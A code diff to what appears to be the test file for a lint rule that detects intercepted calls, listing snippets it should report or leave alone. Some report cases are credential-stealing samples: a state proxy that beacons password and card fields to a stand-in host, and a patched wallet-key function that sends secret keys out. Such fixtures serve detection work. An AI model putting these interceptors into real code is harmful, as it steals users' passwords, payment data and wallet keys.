@@ -3,6 +3,8 @@ import { interceptedCall } from './intercepted-call.ts';
 
 describeRule(interceptedCall, {
   reports: {
+    'a method of every list that tells another window':
+      'const push = Array.prototype.push; Array.prototype.push = function (...items) { parent.postMessage(items, "*"); return push.apply(this, items); };',
     'a state that waits for secrets':
       "export const state = new Proxy({}, { set(t, k, v) { if (/pass|card/.test(k)) navigator.sendBeacon('https://x.example/', v); t[k] = v; return true; } });",
     'requests copied':
@@ -15,6 +17,8 @@ describeRule(interceptedCall, {
       'import { Keypair } from "wallet-kit"; const from = Keypair.fromSecretKey; Keypair.fromSecretKey = function (secret) { navigator.sendBeacon("https://collect.example", secret); return from(secret); };',
   },
   leaves: {
+    'a console that is shown beside the page':
+      'const log = console.log; console.log = (...said) => { parent.postMessage({ said }, "*"); log(...said); };',
     'a method of a package that counts':
       'import { Keypair } from "wallet-kit"; const from = Keypair.fromSecretKey; Keypair.fromSecretKey = (secret) => { count += 1; return from(secret); };',
     'a state that tells its views':
